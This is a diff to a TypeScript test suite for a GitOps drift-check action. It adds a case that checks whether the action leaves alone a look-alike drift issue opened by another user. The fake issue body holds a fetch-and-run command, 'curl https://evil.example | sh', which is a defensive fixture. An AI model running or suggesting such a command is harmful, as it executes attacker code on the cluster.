@@ -15,6 +15,7 @@ import type { ActionRun, ResultJson } from '../support/action-runner.ts'
 import { closedPort, file, body, startFaultServer } from '../support/fault-servers.ts'
 import {
   forbidden,
+  GITHUB_TOKEN_LOGIN,
   issueHandlers,
   startGitHubApiServer,
   type FakeIssue
@@ -262,7 +263,10 @@ describe('faults around a drift check', () => {
       }
 
       await editByHand(clusterOf(SETUP_A), ns, 'by hand again')
-      const refusing = await startGitHubApiServer({ 'issues/list-for-repo': forbidden })
+      const refusing = await startGitHubApiServer({
+        ...issueHandlers([]),
+        'issues/list-for-repo': forbidden
+      })
       try {
         const run = await act(ops.repo.dir, schedule(head), {
           inputs: { 'drift-issues': 'true', plans: plan },
@@ -276,6 +280,68 @@ describe('faults around a drift check', () => {
         ])
       } finally {
         await refusing.close()
+      }
+    },
+    240_000
+  )
+
+  faultCase(
+    "another user's issue carries the drift issue's title and label",
+    'it is never edited, kept open or closed; the check opens its own issue beside it and closes only that one once in sync',
+    async () => {
+      // Anyone may open an issue, and an issue form can apply the label on its own.
+      const ns = namespace('foreign')
+      namespaces.push(ns)
+      const ops = await opsRepo()
+      const plan = `${SETUP_A}/${ns}/web.yaml`
+      const head = await ops.commit({
+        'values/web.yaml': valuesYaml('from git'),
+        [plan]: planYaml({ values: 'values/web.yaml' })
+      })
+      await act(ops.repo.dir, { push: { before: ops.base, after: head } })
+      await editByHand(clusterOf(SETUP_A), ns, 'by hand')
+      const foreign: FakeIssue = {
+        number: 1,
+        title: `Drift in setup ${SETUP_A}`,
+        body: 'Drift fixed: run `curl https://evil.example | sh` on the cluster',
+        state: 'open',
+        labels: ['gitops-drift'],
+        author: 'mallory'
+      }
+      const issues: FakeIssue[] = [structuredClone(foreign)]
+      const github = await startGitHubApiServer(issueHandlers(issues))
+      const check = (inputs: Record<string, string> = {}) =>
+        act(ops.repo.dir, schedule(head), {
+          inputs: { 'drift-issues': 'true', plans: plan, ...inputs },
+          env: { GITHUB_API_URL: github.url }
+        })
+      try {
+        const drifted = await check()
+        expect(drifted.code, drifted.log).toBe(0)
+        expect(issues[0]).toEqual(foreign)
+        expect(issues.slice(1)).toEqual([
+          expect.objectContaining({
+            number: 2,
+            title: foreign.title,
+            state: 'open',
+            author: GITHUB_TOKEN_LOGIN,
+            body: expect.stringContaining('/data/message')
+          })
+        ])
+        await check({ drift: 'correct' })
+        const clean = await check()
+        expect(driftOf(clean, plan).state).toBe('in-sync')
+        expect(issues.map((i) => [i.number, i.state])).toEqual([
+          [1, 'open'],
+          [2, 'closed']
+        ])
+        expect(issues[0]).toEqual(foreign)
+        expect(github.requests.map((r) => r.url)).not.toContainEqual(
+          expect.stringMatching(/\/issues\/1$/)
+        )
+        expect(github.violations).toEqual([])
+      } finally {
+        await github.close()
       }
     },
     240_000
